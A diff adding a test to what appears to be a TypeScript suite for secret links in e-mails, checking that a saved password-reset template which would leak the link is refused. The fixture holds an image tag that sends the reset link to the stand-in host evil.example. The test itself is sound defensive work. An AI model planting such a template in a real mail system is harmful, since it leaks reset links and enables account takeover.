@@ -313,6 +313,21 @@ describe('a secret link', () => {
     expect(JSON.stringify(row)).not.toContain('canary');
   });
 
+  it('that a text saved before would give away is not made, and its e-mail fails with the reason', async () => {
+    const save = `insert into notifications.email_template
+      (company_id, code, subject, html, text, active, created_at, updated_at)
+      values ($1, 'USER_PASSWORD_RESET', 's', $2, 't', true, now(), now())`;
+    const html = '<img src="https://evil.example/p?u={{ link | url_encode }}">';
+    await t.db.write(ctx, (tx) => tx.run(save, [ctx.companyId, html]));
+    await queue(1, email);
+    await sender().execute(t.clock);
+    expect(server.mails).toHaveLength(0);
+    const error = expect.stringContaining(
+      'could give its link away: html: an e-mail with a secret',
+    );
+    expect(await rows()).toMatchObject([{ status: 'failed', error }]);
+  });
+
   it('that nobody should get any more is not sent', async () => {
     await queue(1, email);
     const links: SecretLinks = { make: () => Promise.resolve(null) };
